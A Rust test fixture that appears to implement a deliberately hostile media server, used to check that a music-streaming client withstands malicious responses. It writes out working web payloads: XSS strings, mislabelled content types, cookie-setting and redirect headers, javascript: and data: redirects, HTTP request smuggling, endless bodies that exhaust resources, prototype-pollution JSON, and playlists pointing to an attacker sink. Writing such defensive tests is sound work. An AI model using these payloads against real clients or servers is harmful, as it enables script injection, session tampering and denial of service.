//! What a hostile home answers, byte by byte.

use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use iroam_protocol::{
    home::{Counts, Found, Kind, Page, PathAnswer, Plan, PlanMode, Status, Track},
    id::{ItemId, PeerId},
    path::Path,
    range::{self, Requested},
};
use serde::Serialize;
use serde_json::json;

/// A text that would run as a page. Its marker is what the tests look for.
pub const HTML: &str = "<img src=x onerror=\"top.pwned='text'\"><script>top.pwned='text'</script>";
/// The title of the one song that is what it says.
pub const HONEST: &str = "Honest tone";

const PAGE: &str = "<!doctype html><script>top.pwned='page';self.pwned='page'</script>PWNED";
const SCRIPT: &str = "self.pwned='script';try{top.pwned='script'}catch(e){}//PWNED";
const SVG: &str =
    "<svg xmlns='http://www.w3.org/2000/svg' onload=\"top.pwned='svg'\"><script>top.pwned='svg'</script>PWNED</svg>";

/// What an answer is made of.
#[derive(Debug, Clone)]
pub struct Evil {
    /// The home.
    pub home: PeerId,
    /// Where players are to be led.
    pub sink: String,
    /// The bytes of the honest song.
    pub song: Vec<u8>,
}

/// Bytes, and what happens after them.
#[derive(Debug, Clone)]
pub struct Answer {
    /// Sent at once.
    pub bytes: Vec<u8>,
    /// What follows.
    pub then: Then,
}

/// What follows an answer.
#[derive(Debug, Clone)]
pub enum Then {
    /// The next request of the stream.
    Next,
    /// The end of the stream.
    Close,
    /// Silence.
    Hang,
    /// These bytes again and again.
    Endless(Vec<u8>),
}

/// One thing that it tries: a name, and how it answers.
type Attack = (&'static str, fn(&Evil) -> Answer);

/// Types that never pass: an answer of these must never reach a page as a success.
const TYPES: [(&str, &str, &str); 17] = [
    ("type-html", "text/html", PAGE),
    ("type-xhtml", "application/xhtml+xml", PAGE),
    ("type-svg", "image/svg+xml", SVG),
    ("type-xml", "application/xml", SVG),
    ("type-script", "text/javascript", SCRIPT),
    ("type-application-script", "application/javascript", SCRIPT),
    ("type-module", "application/ecmascript", SCRIPT),
    ("type-css", "text/css", "*{background:red}/*PWNED*/"),
    ("type-plain", "text/plain", PAGE),
    ("type-bytes", "application/octet-stream", PAGE),
    ("type-pdf", "application/pdf", "%PDF-1.4 PWNED"),
    ("type-wasm", "application/wasm", "\0asm\u{1}\0\0\0PWNED"),
    ("type-mixed", "multipart/x-mixed-replace; boundary=x", "--x\r\nContent-Type: text/html\r\n\r\nPWNED"),
    ("type-manifest", "application/manifest+json", "{\"PWNED\":1}"),
    ("type-none", "", PAGE),
    ("type-odd", "audio/mpeg, text/html", PAGE),
    ("type-newline", "audio/mpeg\r\n text/html", PAGE),
];

/// Everything else.
const ATTACKS: [Attack; 28] = [
    ("headers-that-act", |evil| {
        let act = [
            "Set-Cookie: iroam=stolen; Path=/".to_owned(),
            "Set-Cookie: pwned=1; Path=/; Max-Age=99999".to_owned(),
            "Clear-Site-Data: \"*\"".to_owned(),
            "Service-Worker-Allowed: /".to_owned(),
            format!("Link: <{}/preload.js>; rel=preload; as=script", evil.sink),
            format!("Refresh: 0;url={}/refresh", evil.sink),
            format!("Location: {}/location", evil.sink),
            "Content-Disposition: attachment; filename=\"pwned.exe\"".to_owned(),
            "Content-Security-Policy: default-src * 'unsafe-inline'".to_owned(),
            format!("Report-To: {{\"endpoints\":[{{\"url\":\"{}/report\"}}],\"max_age\":9999}}", evil.sink),
            format!("SourceMap: {}/map", evil.sink),
            "Access-Control-Allow-Origin: *".to_owned(),
            "Access-Control-Allow-Credentials: true".to_owned(),
            "Cache-Control: public, max-age=31536000, immutable".to_owned(),
            "Alt-Svc: h3=\":1\"".to_owned(),
            "Strict-Transport-Security: max-age=31536000".to_owned(),
            "X-Content-Type-Options: ".to_owned(),
        ];
        let act: Vec<&str> = act.iter().map(String::as_str).collect();
        ok("audio/mpeg", &act, b"PWNED")
    }),
    ("lie-audio", |_| ok("audio/mpeg", &[], PAGE.as_bytes())),
    ("lie-image", |_| ok("image/png", &[], SVG.as_bytes())),
    ("lie-json", |_| ok("application/json", &[], PAGE.as_bytes())),
    ("redirect-away", |evil| redirect(302, &format!("{}/redirected", evil.sink))),
    ("redirect-inside", |_| redirect(301, "/account")),
    ("redirect-script", |_| redirect(307, "javascript:top.pwned='redirect'")),
    ("redirect-data", |_| redirect(308, "data:text/html,PWNED")),
    ("status-101", |_| {
        raw("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n", Then::Hang)
    }),
    ("status-103-flood", |evil| {
        let hint = format!("HTTP/1.1 103 Early Hints\r\nLink: <{}/hint>; rel=preload; as=script\r\n\r\n", evil.sink);
        raw("", Then::Endless(hint.into_bytes()))
    }),
    ("status-odd", |_| raw("HTTP/1.1 999 Pwned\r\nContent-Type: audio/mpeg\r\nContent-Length: 0\r\n\r\n", Then::Next)),
    ("status-text", |_| raw("HTTP/1.1 abc Pwned\r\n\r\n", Then::Close)),
    ("no-http", |_| raw("\u{0}\u{1}\u{2}SSH-2.0-pwned\r\n\r\n", Then::Close)),
    ("header-huge", |_| {
        raw(&format!("HTTP/1.1 200 OK\r\nX: {}\r\nContent-Type: audio/mpeg\r\n\r\n", "x".repeat(1 << 20)), Then::Close)
    }),
    ("headers-many", |_| {
        raw(&format!("HTTP/1.1 200 OK\r\n{}Content-Type: audio/mpeg\r\n\r\n", "X: x\r\n".repeat(10_000)), Then::Close)
    }),
    ("headers-endless", |_| raw("HTTP/1.1 200 OK\r\n", Then::Endless(b"X: x\r\n".repeat(1_000)))),
    ("body-endless", |_| raw("HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\n\r\n", Then::Endless(vec![b'x'; 65_536]))),
    ("json-endless", |_| {
        raw("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n[", Then::Endless(b"[0,".repeat(20_000)))
    }),
    ("chunks-endless", |_| {
        raw(
            "HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nTransfer-Encoding: chunked\r\n\r\n",
            Then::Endless(b"1\r\nx\r\n".repeat(1_000)),
        )
    }),
    ("chunk-huge", |_| {
        raw(
            "HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\nx",
            Then::Close,
        )
    }),
    ("chunk-and-length", |_| {
        raw(
            "HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            Then::Next,
        )
    }),
    ("length-short", |_| {
        raw("HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 100000\r\n\r\nPWNED", Then::Close)
    }),
    ("length-two", |_| {
        raw(
            "HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 3\r\nContent-Length: 300\r\n\r\nabc",
            Then::Next,
        )
    }),
    ("length-negative", |_| {
        raw("HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: -1\r\n\r\nabc", Then::Next)
    }),
    ("smuggle", |_| {
        let inner = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n\"PWNED!!\"";
        raw(
            &format!(
                "HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 3\r\n\r\nabc{inner}{inner}{inner}"
            ),
            Then::Next,
        )
    }),
    ("silence", |_| raw("", Then::Hang)),
    ("head-and-silence", |_| {
        raw("HTTP/1.1 200 OK\r\nContent-Type: audio/mpeg\r\nContent-Length: 100\r\n\r\n", Then::Hang)
    }),
    ("part-unasked", |_| {
        raw(
            "HTTP/1.1 206 Partial Content\r\nContent-Type: audio/mpeg\r\nContent-Range: bytes 5-3/1\r\nContent-Length: 3\r\n\r\nabc",
            Then::Next,
        )
    }),
];

/// Lists that lead elsewhere; `{sink}` stands for the sink.
const LISTS: [(&str, &str); 9] = [
    ("list-foreign", "#EXTM3U\n#EXTINF:1,\n{sink}/segment.ts\n"),
    ("list-protocol", "#EXTM3U\n#EXTINF:1,\n//{host}/segment.ts\n"),
    ("list-key", "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"{sink}/key\"\n#EXTINF:1,\na.ts\n"),
    ("list-map", "#EXTM3U\n#EXT-X-MAP:URI={sink}/map\n#EXTINF:1,\na.ts\n"),
    ("list-portal", "#EXTM3U\n#EXTINF:1,\n/api/v1/me\n"),
    ("list-dots", "#EXTM3U\n#EXTINF:1,\n../../../../api/v1/me\n"),
    ("list-data", "#EXTM3U\n#EXTINF:1,\ndata:text/html,PWNED\n"),
    ("list-script", "#EXTM3U\n#EXTINF:1,\njavascript:top.pwned=1\n"),
    ("list-backslash", "#EXTM3U\n#EXTINF:1,\n\\\\{host}\\segment.ts\n"),
];

/// The names of everything that is tried at `/v1/attack/NAME`, and as a track's media.
pub fn names() -> Vec<&'static str> {
    let types = TYPES.iter().map(|(name, ..)| *name);
    types.chain(ATTACKS.iter().map(|(name, _)| *name)).chain(LISTS.iter().map(|(name, _)| *name)).collect()
}

impl Evil {
    /// The answer to a request's head.
    pub fn answer(&self, head: &str) -> Answer {
        let path = head.split_whitespace().nth(1).unwrap_or_default();
        let path = path.split('?').next().unwrap_or_default();
        let last = path.rsplit('/').next().unwrap_or_default();
        match path {
            "/v1/status" => json_answer(&self.status()),
            "/v1/changes" => raw("", Then::Hang),
            "/v1/tracks" => json_answer(&self.tracks()),
            "/v1/search" => {
                json_answer(&Found { tracks: self.tracks().items, albums: vec![], artists: vec![], revision: 1 })
            }
            "/v1/albums" => ok("application/json", &[], &b"[".repeat(200_000)),
            "/v1/artists" => {
                json_answer(&json!({ "items": "no list", "__proto__": { "pwned": "proto" }, "total": -1 }))
            }
            "/v1/genres" => self.attack("json-endless"),
            "/v1/path" => json_answer(&PathAnswer { path: Path::Lan, report: Some(HTML.into()), served_ms: u64::MAX }),
            _ if path.ends_with("/plan") => json_answer(&self.plan()),
            _ if path.starts_with("/v1/covers/") => self.attack("type-svg"),
            _ if path.starts_with("/v1/attack/") => self.attack(last),
            _ if path.starts_with("/v1/media/") => self.media(last, head),
            _ => self.attack("type-html"),
        }
    }

    fn attack(&self, name: &str) -> Answer {
        if let Some((_, kind, body)) = TYPES.iter().find(|(own, ..)| *own == name) {
            return ok(kind, &[], body.as_bytes());
        }
        if let Some((_, attack)) = ATTACKS.iter().find(|(own, _)| *own == name) {
            return attack(self);
        }
        let list = LISTS.iter().find(|(own, _)| *own == name).map_or("", |(_, list)| list);
        let host = self.sink.split_once("//").map_or(self.sink.as_str(), |(_, host)| host);
        ok("application/vnd.apple.mpegurl", &[], list.replace("{sink}", &self.sink).replace("{host}", host).as_bytes())
    }

    /// Track 0 is honest; the others answer with the attack of their number.
    fn media(&self, id: &str, head: &str) -> Answer {
        let number = URL_SAFE_NO_PAD.decode(id).ok().and_then(|bytes| bytes.last().copied()).map_or(0, usize::from);
        if number > 0 {
            return names().get(number - 1).map_or_else(|| raw("", Then::Close), |name| self.attack(name));
        }
        let asked = head.lines().find_map(|line| line.to_ascii_lowercase().strip_prefix("range:").map(str::to_owned));
        let size = self.song.len() as u64;
        let Requested::Part(part) = range::parse(asked.as_deref(), size) else { return ok("audio/mpeg", &[], b"") };
        let part = part.at_most(range::CHUNK_BYTES_MAX);
        let (first, last) = (usize::try_from(part.first).unwrap_or(0), usize::try_from(part.last).unwrap_or(0));
        let head = format!(
            "HTTP/1.1 206 Partial Content\r\nContent-Type: audio/mpeg\r\nAccept-Ranges: bytes\r\nContent-Range: bytes {first}-{last}/{size}\r\nContent-Length: {}\r\n\r\n",
            part.byte_len()
        );
        Answer { bytes: [head.as_bytes(), &self.song[first..=last]].concat(), then: Then::Next }
    }

    fn status(&self) -> Status {
        Status {
            id: self.home,
            name: HTML.into(),
            version: HTML.into(),
            revision: 1,
            counts: Counts { tracks: u64::MAX, albums: 1, artists: 1, genres: 1, duration_ms: u64::MAX, failed: 0 },
            scan: None,
            unreadable: vec![HTML.into()],
            time_ms: i64::MIN,
        }
    }

    fn tracks(&self) -> Page<Track> {
        let items: Vec<_> =
            std::iter::once(HONEST).chain(names()).zip(0..).map(|(name, number)| track(name, number)).collect();
        Page { offset: 0, total: items.len() as u64, next: None, revision: 1, items }
    }

    fn plan(&self) -> Plan {
        Plan {
            mode: PlanMode::Direct,
            media_type: "audio/mpeg".into(),
            size_bytes: self.song.len() as u64,
            duration_ms: 64_000,
            reason: Some(HTML.into()),
        }
    }
}

fn track(name: &str, number: u8) -> Track {
    let mut id = [7; 16];
    id[15] = number;
    Track {
        id: ItemId::from_bytes(id),
        title: if number == 0 { name.into() } else { format!("{name} {HTML}") },
        artist: Some(HTML.into()),
        album: Some(HTML.into()),
        album_id: Some(ItemId::from_bytes([9; 16])),
        album_artist: Some(HTML.into()),
        genre: Some(HTML.into()),
        track_no: Some(u32::MAX),
        disc_no: Some(0),
        year: Some(i32::MIN),
        duration_ms: 64_000,
        kind: Kind::Audio,
        media_type: "audio/mpeg".into(),
        codec: Some("mp3".into()),
        bitrate_kbps: Some(u32::MAX),
        sample_rate_hz: Some(0),
        channels: Some(255),
        size_bytes: 1_500_000,
        cover_id: Some(ItemId::from_bytes([8; 16])),
        added_ms: i64::MAX,
    }
}

fn json_answer(value: &impl Serialize) -> Answer {
    ok("application/json", &[], &serde_json::to_vec(value).unwrap_or_default())
}

fn ok(kind: &str, headers: &[&str], body: &[u8]) -> Answer {
    let kind = if kind.is_empty() { String::new() } else { format!("Content-Type: {kind}\r\n") };
    let headers: String = headers.iter().map(|line| format!("{line}\r\n")).collect();
    let head = format!("HTTP/1.1 200 OK\r\n{kind}{headers}Content-Length: {}\r\n\r\n", body.len());
    Answer { bytes: [head.as_bytes(), body].concat(), then: Then::Next }
}

fn redirect(status: u16, to: &str) -> Answer {
    raw(
        &format!(
            "HTTP/1.1 {status} Elsewhere\r\nLocation: {to}\r\nContent-Type: audio/mpeg\r\nContent-Length: 0\r\n\r\n"
        ),
        Then::Next,
    )
}

fn raw(bytes: &str, then: Then) -> Answer {
    Answer { bytes: bytes.as_bytes().to_vec(), then }
}
